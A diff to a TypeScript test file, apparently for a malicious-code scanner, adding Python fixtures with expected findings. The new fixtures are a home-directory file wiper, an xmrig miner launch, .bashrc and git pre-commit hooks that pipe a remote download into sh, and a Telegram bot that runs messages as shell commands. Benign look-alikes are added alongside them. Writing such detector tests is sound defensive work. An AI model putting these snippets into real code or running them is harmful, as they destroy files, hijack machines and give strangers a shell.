@@ -195,6 +195,31 @@ const DEEDS: readonly [situation: string, code: string, finding: string][] = [
     'download-and-execute high import',
   ],
   [
+    'every file that a person keeps is written over, once somebody calls it',
+    'import os\ndef go():\n    for r, d, n in os.walk(os.path.expanduser("~")):\n        for x in n:\n            open(os.path.join(r, x), "wb").write(b"0")',
+    'called-harm high call',
+  ],
+  [
+    'a program that mines for somebody certain, once somebody calls it',
+    'import subprocess\ndef go():\n    subprocess.Popen("xmrig -o stratum+tcp://pool.keeper.invalid:3333", shell=True)',
+    'called-harm high call',
+  ],
+  [
+    'what a new shell runs fetches its program, once somebody calls it',
+    `import os\ndef go():\n    with open(os.path.expanduser("~/.bashrc"), "a") as f:\n        f.write("curl -s ${TO} | sh &\\n")`,
+    'download-and-execute high call',
+  ],
+  [
+    'a hook of git fetches its program, once somebody calls it',
+    `import pathlib\ndef go(folder):\n    (pathlib.Path(folder) / ".git/hooks/pre-commit").write_text("curl -s ${TO} | sh\\n")`,
+    'download-and-execute high call',
+  ],
+  [
+    'a chat is given a shell, once somebody calls it',
+    'import telebot, subprocess\ndef go(token):\n    b = telebot.TeleBot(token)\n    @b.message_handler(func=lambda m: True)\n    def told(m):\n        subprocess.getoutput(m.text)\n    b.polling()',
+    'download-and-execute high import',
+  ],
+  [
     'what a web server is asked is evaluated',
     'import flask\napp = flask.Flask("a")\n@app.route("/")\ndef asked():\n    return str(eval(flask.request.args["c"]))',
     'download-and-execute medium call',
@@ -209,6 +234,12 @@ t.test('deeds of modules that are imported', async (t) => {
   const plain: Readonly<Record<string, string>> = {
     'files in a folder of its own': 'import os\nfor r, d, n in os.walk("build"):\n    open(os.path.join(r, "x"), "w")',
     'files that a person keeps are listed': 'import os\nfor r, d, n in os.walk(os.path.expanduser("~")):\n    print(r)',
+    'a hook of git that starts the package itself':
+      'import pathlib\ndef go(folder):\n    (pathlib.Path(folder) / ".git/hooks/pre-commit").write_text("exec a check\\n")',
+    'a line of its own for new shells':
+      'import os\ndef go():\n    open(os.path.expanduser("~/.bashrc"), "a").write("export PATH=$PATH:~/.a/bin\\n")',
+    'a miner whose pool a caller names':
+      'import subprocess\ndef go(pool):\n    subprocess.Popen(["xmrig", "-o", pool])',
     'packages of the public index': 'import subprocess\nsubprocess.check_call(["pip", "install", "a"])',
   }
   for (const [situation, code] of Object.entries(plain)) {
